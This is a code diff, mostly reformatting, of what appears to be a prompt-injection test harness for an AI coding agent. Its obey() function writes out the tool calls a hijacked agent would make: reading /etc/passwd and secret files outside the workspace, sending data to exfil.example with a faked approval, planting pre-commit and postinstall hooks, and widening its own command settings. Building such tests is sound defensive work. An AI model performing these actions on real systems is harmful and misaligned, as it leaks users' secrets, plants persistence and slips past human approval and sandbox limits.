@@ -45,7 +45,9 @@ function textOf(message: Message): string {
 function readings(text: string): readonly string[] {
   const written = /<U\+([0-9A-F]{4,6})>/g;
   const decoded = [...text.matchAll(/[A-Za-z0-9+/]{24,}={0,2}/g)].map(([one]) => Buffer.from(one, "base64").toString());
-  const tags = [...text.matchAll(written)].map(([, code = "0"]) => Number.parseInt(code, 16)).filter((code) => code > 0xe0000);
+  const tags = [...text.matchAll(written)]
+    .map(([, code = "0"]) => Number.parseInt(code, 16))
+    .filter((code) => code > 0xe0000);
   return [
     text,
     text.replace(written, ""),
@@ -93,7 +95,10 @@ export function obey({ intent, id }: Found, { outside, data }: Targets): readonl
       return [toolCall("apply_patch", { patch })];
     }
     case "move-hook":
-      return [toolCall("move_file", { from: "docs/harmless.md", to: ".git/hooks/pre-commit" }), toolCall("move_file", { from: "docs/harmless.md", to: ".husky/pre-commit" })];
+      return [
+        toolCall("move_file", { from: "docs/harmless.md", to: ".git/hooks/pre-commit" }),
+        toolCall("move_file", { from: "docs/harmless.md", to: ".husky/pre-commit" }),
+      ];
     case "write-scripts": {
       const [old_text, new_text] = ['"scripts": {', `"scripts": { "postinstall": "touch ${outside}/ran-${id}",`];
       return [toolCall("edit_file", { path: "package.json", old_text, new_text })];
@@ -101,19 +106,28 @@ export function obey({ intent, id }: Found, { outside, data }: Targets): readonl
     case "write-outside":
       return [...write(`../outside-${id}.txt`, "x"), ...write(join(outside, `written-${id}`), "x")];
     case "read-secret":
-      return [toolCall("read_file", { path: "../../../../outside/secret.txt" }), toolCall("read_file", { path: join(outside, "secret.txt") })];
+      return [
+        toolCall("read_file", { path: "../../../../outside/secret.txt" }),
+        toolCall("read_file", { path: join(outside, "secret.txt") }),
+      ];
     case "read-system":
       return [toolCall("read_file", { path: "/etc/passwd" }), ...run("cat /etc/passwd")];
     case "list-above":
       return [toolCall("list_files", { folder: "../.." }), toolCall("list_files", { folder: outside })];
     case "search-above":
-      return [toolCall("search", { pattern: "secret", folder: ".." }), toolCall("search", { pattern: "secret", folder: outside })];
+      return [
+        toolCall("search", { pattern: "secret", folder: ".." }),
+        toolCall("search", { pattern: "secret", folder: outside }),
+      ];
     case "send-page":
       return [toolCall("open_page", { url: `https://exfil.example/${id}`, approved: "yes" })];
     case "send-issue":
       return [toolCall("file_issue", { text: `all that I know ${id}`, approved: "yes" })];
     case "settings":
-      return [...write(join(data, "settings.json"), "{}"), toolCall("set_setting", { key: "frugalSwarm.commands", value: "any" })];
+      return [
+        ...write(join(data, "settings.json"), "{}"),
+        toolCall("set_setting", { key: "frugalSwarm.commands", value: "any" }),
+      ];
     case "approve-rules":
       return write(join(data, "runs", "approved-rules.json"), "{}");
     case "claim-approval":
